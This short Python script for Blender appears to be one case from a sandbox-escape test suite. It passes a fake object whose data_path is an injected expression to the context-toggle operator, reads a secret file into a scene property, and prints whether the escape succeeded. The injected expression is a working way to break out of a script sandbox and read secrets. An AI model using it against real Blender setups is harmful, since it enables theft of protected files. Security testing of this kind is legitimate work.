# attack: the data path of wm.context_toggle is an expression; its execute is taken from bpy.types and gets a fake self
# family: operators
import bpy


class Fake:
    module = ""
    data_path = 'scene.update_tag() or [scene.__setitem__("found", open("$SECRET_FILE").read()) for scene in [context.scene]]'


print("REACHED", bpy.types.WM_OT_context_toggle.execute)
try:
    bpy.types.WM_OT_context_toggle.execute(Fake(), bpy.context)
finally:
    print("ESCAPED", bpy.context.scene["found"])
